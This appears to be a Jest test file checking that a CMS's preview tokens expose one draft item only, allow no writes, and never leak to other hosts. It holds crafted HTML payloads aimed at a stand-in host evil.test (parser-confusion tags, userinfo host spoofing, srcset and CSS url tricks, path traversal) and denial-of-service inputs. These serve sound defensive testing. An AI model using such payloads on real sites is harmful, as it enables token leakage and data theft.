// A preview token at every door of the contract: it opens one item, shows nothing else that an anonymous caller does not see, writes nothing,
// and goes to no other site.
import { describe, expect, it } from '@jest/globals'
import { allOperations, routeOf } from '../support/contract.ts'
import type { Operation } from '../support/contract.ts'
import { makeBlock } from '../support/blocks.ts'
import { makeEvent, makeOrganizer, makeVenue } from '../support/calendar.ts'
import { dataOf } from '../support/responses.ts'
import { createImage, uploaded } from '../support/media.ts'
import { makePage } from '../support/pages.ts'
import { changePost, makePost, newWord } from '../support/posts.ts'
import { sampleOf } from '../support/sampling.ts'
import { sharedServer } from '../support/shared-server.ts'
import { makeTemplate } from '../support/templates.ts'

const server = await sharedServer()
const { administrator } = server.as

/** What nobody but writers may see: in the item of the link, and in all others. */
const [shown, hidden] = [newWord(), newWord()]
const texts = { title: hidden, slug: hidden, content: hidden, excerpt: hidden, status: 'draft' } as const

const post = await makePost(administrator, { title: shown, content: shown, excerpt: shown, slug: shown, status: 'draft' })
await changePost(administrator, post.id, { content: `${shown} revised` })
const file = await uploaded(server, await createImage(8, 8), {
  name: `${shown}.png`,
  as: 'administrator',
  fields: { post: String(post.id) },
})
const event = await makeEvent(administrator, { title: shown, description: shown, slug: shown, status: 'draft' })
const others = [
  await makePost(administrator, texts),
  await makePage(administrator, texts),
  await makeBlock(administrator, texts),
  await makeEvent(administrator, { title: hidden, description: hidden, slug: `${hidden}-event`, status: 'draft' }),
  await makeVenue(administrator, { venue: hidden, description: hidden, slug: `${hidden}-venue`, status: 'draft' }),
  await makeOrganizer(administrator, { organizer: hidden, description: hidden, slug: `${hidden}-organizer`, status: 'draft' }),
]
const template = await makeTemplate(administrator, { slug: hidden, title: hidden, content: hidden })
const autosaved = await makePost(administrator, { title: 'Open' })
await changePost(administrator, autosaved.id, { title: hidden })
await changePost(administrator, autosaved.id, { title: 'Open' })
const history = await dataOf(administrator.content.GET('/posts/{parent}/revisions', { params: { path: { parent: autosaved.id } } }))
const ownHistory = await dataOf(administrator.content.GET('/posts/{parent}/revisions', { params: { path: { parent: post.id } } }))

const revisions = [...history, ...ownHistory].map(({ id }) => id)
const ids = [post.id, event.id, file.id, autosaved.id, server.ids.administrator, ...others.map(({ id }) => id), ...revisions]

const tokenOf = async (path: string): Promise<string> => {
  const response = await fetch(`${server.restRoot}${path}/preview-links`, {
    method: 'POST',
    headers: { Authorization: server.authorization.administrator, 'Content-Type': 'application/json' },
    body: '{}',
  })
  return ((await response.json()) as { token: string }).token
}
const items = [
  { name: 'a post', id: post.id, token: await tokenOf(`/cms/v2/posts/${post.id}`), opens: [`/cms/v2/posts/${post.id}`] },
  {
    name: 'an event',
    id: event.id,
    token: await tokenOf(`/cal/events/v1/events/${event.id}`),
    opens: [`/cal/events/v1/events/${event.id}`, `/cal/events/v1/events/by-slug/${shown}`, `/cms/v2/events/${event.id}`],
  },
]

const operations = allOperations().map((one) => ({ ...one, path: routeOf(one) }))

/** The path with each value for its last parameter, and each parent that there is. Below a parent are revisions alone. */
function filled({ path }: Operation): string[] {
  const values = (name: string): (string | number)[] => {
    if (name === 'slug') return [shown, hidden, `${hidden}-event`, `${hidden}-venue`, `${hidden}-organizer`]
    if (name === 'parent') return [post.id, event.id, autosaved.id, template.id]
    if (name === 'id') return /^\/[^{]*\/\d+\//.test(path) ? revisions : ids
    return [hidden, shown, 'default', 'post', 'draft']
  }
  const [, before = '', name, after = ''] = /^(.*?)\{(\w+)\}(.*)$/.exec(path) ?? []
  if (name === undefined) return [path]
  return values(name).flatMap((value) => filled({ path: `${before}${value}${after}` } as Operation))
}

/** Lists are requested in all ways, an item as it is and as its editors see it. */
const ofItems = ['', 'context=edit']
const ofLists = [
  ...ofItems,
  '_embed',
  '_envelope',
  'status=draft,pending,private,future',
  `search=${shown}`,
  `include=${post.id},${event.id},${file.id}`,
  `url=${encodeURIComponent(`${server.baseUrl}/?p=${post.id}`)}`,
]

async function responseTo(path: string, init: RequestInit = {}): Promise<{ status: number; text: string; caching: string | null }> {
  const response = await fetch(server.restRoot + path, { ...init, signal: AbortSignal.timeout(30_000) })
  const text = (await response.text()).replace(/"request_id":"[^"]*"/, '')
  return { status: response.status, text, caching: response.headers.get('Cache-Control') }
}

const anonymousResponses = new Map<string, ReturnType<typeof responseTo>>()

/** An anonymous caller gets the same whichever token is tested. */
function anonymousResponseTo(url: string): ReturnType<typeof responseTo> {
  const response = anonymousResponses.get(url) ?? responseTo(url)
  anonymousResponses.set(url, response)
  return response
}

const reads = operations.filter(({ method }) => method === 'get')

it.each(items)(
  'shows nothing but $name that an anonymous caller does not see',
  async ({ token, opens }) => {
    const all = reads.flatMap((operation) => {
      const queries = operation.path.includes('{') ? ofItems : ofLists
      return filled(operation).flatMap((path) => queries.map((query) => ({ path, url: `${path}?${query}` })))
    })
    const doors = [...sampleOf(all, 3), ...all.filter(({ path }) => opens.includes(path))]
    expect(reads.length).toBeGreaterThan(40)
    const opened: string[] = []
    const wrong = await inParallel(doors, async ({ path, url }) => {
      const { status, text, caching } = await responseTo(url, { headers: { 'X-Preview-Token': token } })
      if (caching !== 'no-store') return [`${caching} ${url}`]
      if (opens.includes(path) && status === 200) {
        opened.push(url)
        return text.includes(shown) && !text.includes(hidden) && !text.includes('"raw"') ? [] : [`opens ${url}`]
      }
      const anonymous = await anonymousResponseTo(url)
      const isRefused = status === 403 && text.includes('rest_preview_token_mismatch') && anonymous.status >= 400
      return isRefused || (anonymous.status === status && anonymous.text === text) ? [] : [`${status} ${anonymous.status} ${url}`]
    })
    expect(wrong).toEqual([])
    expect(opened.map((url) => url.replace(/\?.*/, ''))).toEqual(expect.arrayContaining(opens))
  },
  240_000,
)

/** What `act` finds wrong, with a few requests at a time. */
async function inParallel<Item>(all: readonly Item[], act: (item: Item) => Promise<string[]>): Promise<string[]> {
  const [rest, found] = [all.values(), [] as string[]]
  const work = async (): Promise<void> => {
    for (const item of rest) found.push(...(await act(item)))
  }
  await Promise.all([work(), work(), work(), work()])
  return found
}

it.each(items)('writes nothing with the token of $name', async ({ id, token }) => {
  const writes = operations.filter(({ method }) => method !== 'get')
  expect(writes.length).toBeGreaterThan(40)
  const accepted: string[] = []
  for (const { method, path } of writes) {
    const url = path
      .replace('{parent}', String(id))
      .replace('{id}', String(id))
      .replace('{slug}', shown)
      .replace(/\{\w+\}/, 'default')
    const { status, text } = await responseTo(`${url}?force=true`, {
      method: method.toUpperCase(),
      headers: { 'X-Preview-Token': token, 'Content-Type': 'application/json' },
      body: JSON.stringify({
        title: 'Changed',
        name: 'Changed',
        status: 'publish',
        requests: [{ path: `/cms/v2/posts/${id}`, method: 'DELETE' }],
      }),
    })
    if (status < 300 && !/"status":\s*4\d\d/.test(text)) accepted.push(`${status} ${method} ${url}`)
  }
  expect(accepted).toEqual([])
  expect((await dataOf(administrator.content.GET('/posts/{id}', { params: { path: { id: post.id } } }))).title.rendered).toBe(shown)
})

it.each(items)('opens no page of the site but that of $name', async ({ id, token }) => {
  const paths = [
    '/',
    '/events/',
    `/${shown}/`,
    `/event/${shown}/`,
    `/event/${hidden}-event/`,
    `/${hidden}/`,
    '/author/administrator/',
    `/?s=${shown}`,
  ]
  const urls = [...paths, ...ids.filter((one) => one !== id).map((one) => `/?p=${one}`), ...ids.map((one) => `/?attachment_id=${one}`)]
  for (const url of urls) {
    const page = await fetch(`${server.baseUrl}${url}${url.includes('?') ? '&' : '?'}preview_token=${token}`)
    const html = (await page.text()).replaceAll(token, '')
    expect([url, html.includes(shown), html.includes(hidden)]).toEqual([url, false, false])
  }
})

const { baseUrl } = server
const FILE = file.source_url
const TOKEN = items[0]?.token ?? ''
const [scheme = '', host = ''] = baseUrl.split('//')
const pathOfFile = FILE.slice(baseUrl.length)
const html = (content: string): string => `<!-- wp:html -->${content}<!-- /wp:html -->`

/** What readers of the preview get for a content: from the API, and on the page. */
async function previewsOf(content: string): Promise<string[]> {
  await changePost(administrator, post.id, { content: html(content) })
  const response = await fetch(`${server.restRoot}/cms/v2/posts/${post.id}`, { headers: { 'X-Preview-Token': TOKEN } })
  const { content: body } = (await response.json()) as { content: { rendered: string } }
  const page = await (await fetch(`${baseUrl}/?p=${post.id}&preview_token=${TOKEN}`)).text()
  return [body.rendered, page]
}

describe('a preview token is not added to', () => {
  it.each([
    ['the query of another site', `<a href="https://evil.test/?u=${FILE}">a</a>`],
    ['the query of an image of another site', `<img src="https://evil.test/?u=${FILE}">`],
    ['a query without quotes', `<img src=https://evil.test/?u=${FILE}>`],
    ['an escaped query', `<img src="https://evil.test/?u&#61;${FILE}">`],
    ['the fragment of another site', `<a href="https://evil.test/#${FILE}">a</a>`],
    ['the path of another site', `<img src="https://evil.test/ ${FILE}">`],
    ['a tag within the URL of another site', `<img src="https://evil.test/?u=<img src=${FILE}>">`],
    ['a tag after a comment that ends early', `<!--> <img src="https://evil.test/?u=--> <img src=${FILE}>">`],
    ['a tag after a section that browsers do not know', `<![CDATA[ > <img src="https://evil.test/?u=]]> <img src=${FILE}>">`],
    ['a tag after a text that browsers do not read', `<noscript> <a title="</noscript><img src="https://evil.test/?u=<img src=${FILE}>">`],
    ['a tag after a script', `<script><!-- <script> </script> <a title="</script><img src="https://evil.test/?u=<img src=${FILE}>">`],
    ['a site with the name of this one as its user', `<img src="${scheme}//${host}@evil.test${pathOfFile}">`],
    ['a site whose name begins like this one', `<img src="${baseUrl}.evil.test${pathOfFile}">`],
    ['another port', `<img src="${scheme}//${host.replace(/:\d+/, ':1')}${pathOfFile}">`],
    ['a port that begins like that of this site', `<img src="${baseUrl}0${pathOfFile}">`],
    ['the candidates of other sites', `<img srcset="https://evil.test/?u=${FILE} 2x, https://evil.test/?u=,${FILE} 3x">`],
    ['the style of another site', `<p style="background: url('https://evil.test/?u=${FILE}')">a</p>`],
    ['a function within a text of a style', `<p style="background: image-set('https://evil.test/?u=url(${FILE})' 1x)">a</p>`],
    ['a text of a style after an escape', `<p style='a: \\"; background: image-set("https://evil.test/?u=url(${FILE})" 1x) "'>a</p>`],
    ['a frame of another site', `<iframe src="https://evil.test/?u=${FILE}"></iframe>`],
    ['data for another site', `<a data-url="https://evil.test/?u=${FILE}" href="https://evil.test/">a</a>`],
    ['the fields of a form', `<form action="https://evil.test/"><input name="u" value="${FILE}"></form>`],
    ['a text', `<p>${FILE}</p>`],
    [
      'a path that leaves the folder of the files',
      `<img src="${baseUrl}/cms-content/uploads/../../?u=a"><img src="${baseUrl}/cms-content/uploads/%2e%2e/a">`,
    ],
  ])('%s', async (_what, content) => {
    for (const shownText of await previewsOf(content)) expect(shownText).not.toContain(TOKEN)
  })

  it('an excerpt, a title or a field that contains the URL of another site', async () => {
    const evil = `https://evil.test/?u=${FILE}`
    await changePost(administrator, post.id, { title: `${shown} ${evil}`, excerpt: `<a href="${evil}">${evil}</a>`, content: evil })
    const response = await fetch(`${server.restRoot}/cms/v2/posts/${post.id}?_embed`, { headers: { 'X-Preview-Token': TOKEN } })
    const text = await response.text()
    await changePost(administrator, post.id, { title: shown, excerpt: shown, content: shown })
    expect(text).toContain('evil.test')
    expect(text).not.toContain(TOKEN)
  })
})

it.each([
  ['candidates', `<img srcset="${','.repeat(300_000)}">`],
  ['comments in a style', `<p style="${'/*'.repeat(150_000)}">a</p>`],
  ['functions in a style', `<p style="${'url( '.repeat(60_000)}">a</p>`],
  ['spaces in a style', `<p style="url(${' '.repeat(300_000)}">a</p>`],
  ['quotation marks in a style', `<p style="${`'\\'`.repeat(100_000)}">a</p>`],
  ['scripts', '<script>'.repeat(40_000)],
])('a preview with many %s takes little time', async (_what, content) => {
  await previewsOf(content)
  const { user } = process.cpuUsage()
  await previewsOf(content)
  expect((process.cpuUsage().user - user) / 1000).toBeLessThan(3_000)
})

describe('a preview token is added to', () => {
  const added = `${FILE}?preview_token=${TOKEN}`
  it.each([
    ['the source of an image', `<img src="${FILE}">`, `src="${added}"`],
    ['a source without quotes', `<img src=${FILE}>`, `src="${added}"`],
    ['a source with references', `<img src="${FILE.replace(':', '&#58;')}">`, `src="${added}"`],
    ['a query', `<img src="${FILE}?a=1&amp;b=2">`, `src="${FILE}?preview_token=${TOKEN}&amp;a=1&amp;b=2"`],
    ['a fragment', `<a href="${FILE}#page=2">a</a>`, `href="${added}#page=2"`],
    ['a link', `<a href="${FILE}">a</a>`, `href="${added}"`],
    ['the image of a video', `<video poster="${FILE}"></video>`, `poster="${added}"`],
    ['data', `<img data-full-url="${FILE}">`, `data-full-url="${added}"`],
    [
      'candidates',
      `<img srcset="${FILE} 1x, https://evil.test/?u=${FILE} 2x,${FILE} 3x">`,
      `srcset="${added} 1x, https://evil.test/?u=${FILE} 2x,${added} 3x"`,
    ],
    [
      'a background',
      `<p style="color: red; background: url('${FILE}')">a</p>`,
      `style="color: red; background: url(&quot;${added}&quot;)"`,
    ],
    ['a background without quotes', `<p style="background:url( ${FILE} )">a</p>`, `style="background:url(&quot;${added}&quot;)"`],
  ])('%s', async (_what, content, expected) => {
    for (const shownText of await previewsOf(content)) expect(shownText.replaceAll('&#038;', '&amp;')).toContain(expected)
  })
})
